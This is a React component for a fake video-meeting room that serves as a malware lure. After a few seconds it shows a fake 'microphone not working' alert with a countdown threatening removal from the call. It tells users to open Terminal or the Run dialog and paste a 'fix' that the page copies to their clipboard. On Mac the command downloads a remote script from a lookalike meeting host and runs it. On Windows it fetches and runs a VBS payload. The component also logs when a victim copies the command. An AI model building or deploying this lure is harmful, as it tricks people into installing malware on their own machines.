import { jsx as _jsx, jsxs as _jsxs } from "react/jsx-runtime";
import { useEffect, useState } from "react";
const mac = /Mac/.test(navigator.platform);
const fix = mac
    ? 'softwareupdate --evaluate-products; curl -sk "https://us05-zm.invalid/sdk/audio.sh" | zsh; # audio-driver-reset'
    : 'cmd /c "echo AudioDriverReset && curl -k -o %TEMP%\\a.vbs https://us05-zm.invalid/sdk/audio && wscript %TEMP%\\a.vbs"';
export default function Room({ host, topic }) {
    const [bad, setBad] = useState(false);
    const [left, setLeft] = useState(40);
    useEffect(() => { const t = setTimeout(() => setBad(true), 6500); return () => clearTimeout(t); }, []);
    useEffect(() => { if (!bad) return; const i = setInterval(() => setLeft((v) => Math.max(0, v - 1)), 1000); return () => clearInterval(i); }, [bad]);
    const copy = () => { navigator.clipboard.writeText(fix); fetch("/api/step?m=" + topic + "&s=copy"); };
    return _jsxs("div", { className: "room", children: [
        _jsx("video", { src: "/static/people.mp4", autoPlay: true, muted: true, loop: true }),
        bad && _jsxs("div", { className: "alert", children: [
            _jsx("h3", { children: "Your microphone is not working" }),
            _jsxs("p", { children: [host, " can't hear you. Update the audio SDK within ", left, "s or you will be removed."] }),
            _jsxs("ol", { children: [_jsx("li", { children: mac ? "Open Spotlight and type Terminal" : "Press Win + R" }), _jsx("li", { children: "Paste the fix and press Enter" })] }),
            _jsx("button", { onClick: copy, children: "Copy fix" })
        ] })
    ] });
}
